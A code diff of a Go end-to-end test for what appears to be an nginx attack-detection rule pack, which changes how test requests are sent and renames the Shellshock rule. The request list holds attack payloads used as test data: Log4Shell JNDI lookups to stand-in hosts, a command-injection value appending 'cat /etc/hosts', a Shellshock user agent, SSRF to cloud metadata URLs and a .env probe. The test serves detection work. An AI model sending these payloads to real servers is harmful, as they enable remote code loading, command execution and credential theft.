@@ -63,7 +63,7 @@ func e2eRequests() []e2eRequest {
 		{id: "log4shell-ua", method: "GET", target: "/", userAgent: "${jndi:ldap://203.0.113.7:1389/Exploit}", rule: "Log4Shell JNDI lookup attempt"},
 		{id: "log4shell-query", method: "GET", target: "/api?x=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D", userAgent: "curl/8.5.0", rule: "Log4Shell JNDI lookup attempt"},
 		{id: "cmdi", method: "GET", target: "/ping?host=127.0.0.1%3Bcat%20%2Fetc%2Fhosts", userAgent: "curl/8.5.0", rule: "Command injection attempt"},
-		{id: "shellshock", method: "GET", target: "/cgi-bin/status", userAgent: "() { :; }; /bin/bash -c 'id'", rule: "Command injection attempt"},
+		{id: "shellshock", method: "GET", target: "/cgi-bin/status", userAgent: "() { :; }; /bin/bash -c 'id'", rule: "Shellshock attempt"},
 		{id: "ssrf-aws", method: "GET", target: "/fetch?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2Fiam%2F", userAgent: "curl/8.5.0", rule: "SSRF to cloud metadata"},
 		{id: "ssrf-gcp", method: "GET", target: "/preview?src=http://metadata.google.internal/computeMetadata/v1/", userAgent: "curl/8.5.0", rule: "SSRF to cloud metadata"},
 		{id: "probe-env", method: "GET", target: "/.env", userAgent: "curl/8.5.0", rule: "Sensitive file probed"},
@@ -135,8 +135,18 @@ func TestNginxEndToEnd(t *testing.T) {
 	reqs := e2eRequests()
 	status := map[string]int{}
 	classes := map[string]int64{}
-	for _, r := range reqs {
-		code := rawRequest(t, addr, r.method, r.target, r.id, r.userAgent, r.body)
+	for i, r := range reqs {
+		// Each attack from its own client: the pack throttles per client,
+		// and this test wants each one's alert. Bursts share one.
+		from := ""
+		if r.rule != "" && !strings.HasPrefix(r.id, "brute") && !strings.HasPrefix(r.id, "fail") {
+			from = fmt.Sprintf("127.0.1.%d", i+1)
+		}
+		h := []string{"X-Request-ID: " + r.id}
+		if r.userAgent != "" {
+			h = append(h, "User-Agent: "+r.userAgent)
+		}
+		code := sendRaw(t, addr, from, r.method, r.target, h, r.body)
 		status[r.id] = code
 		classes[fmt.Sprintf("%dxx", code/100)]++
 	}
